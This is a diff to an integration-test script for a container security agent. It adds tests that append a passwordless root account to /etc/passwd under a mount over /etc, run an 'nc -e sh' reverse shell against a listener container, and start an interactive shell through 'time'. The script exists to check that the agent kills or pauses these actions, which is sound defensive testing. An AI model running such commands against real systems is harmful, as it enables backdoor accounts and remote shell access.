@@ -9,7 +9,7 @@
 # one gets no content; opened by its handle too), the account files are
 # pinned immutable (a rename, an unlink, a chmod refused; not in a build
 # step; cleared at stop), an injection syscall kills its caller, so does a
-# write through /proc/PID/mem (after its open). Audit mode
+# write through /proc/PID/mem (after its open), a reverse shell is killed. Audit mode
 # (--protect alone) reports and does nothing.
 . tests/integration/lib.sh
 
@@ -123,6 +123,19 @@ else
 	skip "passwd by open_by_handle_at: $WORK has no file handles"
 fi
 
+# A file system mounted over /etc (CAP_SYS_ADMIN, mount allowed): its
+# passwd is no file the guard marked (until its next marking), so the write
+# happens; the writer is still killed right after it returns, and the
+# record says both (or, marked in time, the write is refused).
+run_container "$P-mnt" --label palisade.debug=true --cap-add SYS_ADMIN \
+	--security-opt seccomp=unconfined "$IMAGE" sleep 300
+docker exec "$P-mnt" sh -c 'mount -t tmpfs none /etc && echo "root:x:0:0::/:/bin/sh" >/etc/passwd'
+docker exec "$P-mnt" sh -c 'echo "evil::0:0::/:/bin/sh" >>/etc/passwd; sleep 2' 2>/dev/null
+check "passwd under a mount over /etc: the writer is killed after its write (137)" test $? -eq 137
+a=$(wait_alert ".rule==\"Protect - account file write denied\" and .output_fields[\"container.name\"]==\"$P-mnt\" and (.output_fields[\"evt.arg.flags\"]|test(\"APPEND\"))" 10 "account file write denied")
+check "passwd under a mount over /etc: the record says it happened, and the kill" expect "$a" \
+	'.palisade_action.outcome=="done" or (.palisade_action.outcome=="missed" and (.palisade_action.detail|test("it happened; its caller, after it returned: killed")))'
+
 # 2b. Pins: the account files are immutable in a container, so what
 #     fanotify cannot see (a rename onto them, an unlink, a chmod) is refused
 #     by the kernel; not in a build step's container (named by image id).
@@ -177,6 +190,18 @@ inject tracer ptrace "injection syscall killed" "served in kernel"
 # writer lingers (as the tracer does) so the user-space kill lands.
 inject memw "/proc/PID/mem write" "process memory written through /proc" done mem
 
+# 3b. A reverse shell: nc connects to a listener and execs a shell on the
+#     connection; the listener sends it a command. The shell dies first.
+run_container "$P-lis" "$IMAGE" sh -c '(sleep 2; echo "touch /out/revshell-ran"; sleep 3) | nc -l -p 4444'
+CONTAINERS="$CONTAINERS $P-rev"
+docker run --rm --name "$P-rev" -v "$OUT:/out" "$IMAGE" \
+	nc "$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$P-lis")" 4444 -e sh
+check "reverse shell (nc -e sh): the shell is killed (137)" test $? -eq 137
+check "reverse shell: it never ran the listener's command" never_ran revshell
+a=$(record "shell on a network socket killed" "$P-rev")
+check "reverse shell: a Critical record, the kill done" expect "$a" \
+	'.priority=="Critical" and .palisade_action.outcome=="done"'
+
 # 4. Shells: docker exec and an interactive first process pause the
 #    container; a scripted entry point and a debug container do not.
 docker exec "$P-debug" sh -c true
@@ -195,12 +220,18 @@ run_container "$P-bbi" -i "$IMAGE" busybox sh
 run_container "$P-bbs" "$IMAGE" busybox sh -c 'sleep 300'
 check "shell, busybox sh as an interactive first process: the container is paused" wait_paused "$P-bbi"
 check "near miss: busybox sh -c as the entry point is not paused" running "$P-bbs"
+# An interactive shell behind another program (time forks it): its parent
+# is not runc, but it has a terminal and no command.
+run_container "$P-tm" "$IMAGE" sleep 300
+timeout 10 docker exec -t "$P-tm" time sh -c true </dev/null >/dev/null
+timeout 10 docker exec -t "$P-tm" time sh </dev/null >/dev/null
+check "shell, docker exec -t time sh: the container is paused" wait_paused "$P-tm"
 check "near miss: a debug container is not paused" running "$P-debug"
 stop_agent
 grep "palisade: hold" "$WORK/agent.err" >&2 # the hold's counts, for a failure's reader
 not_pinned() { ! pinned "$1"; }
 check "pin: cleared when the agent stops" not_pinned "$P-pin"
-for c in "$P-run" "$P-shell" "$P-bb" "$P-bbi"; do docker unpause "$c" >/dev/null 2>&1; done
+for c in "$P-run" "$P-shell" "$P-bb" "$P-bbi" "$P-tm"; do docker unpause "$c" >/dev/null 2>&1; done
 
 # 5. Audit mode: --protect alone reports and does nothing.
 start_agent --protect || exit 1
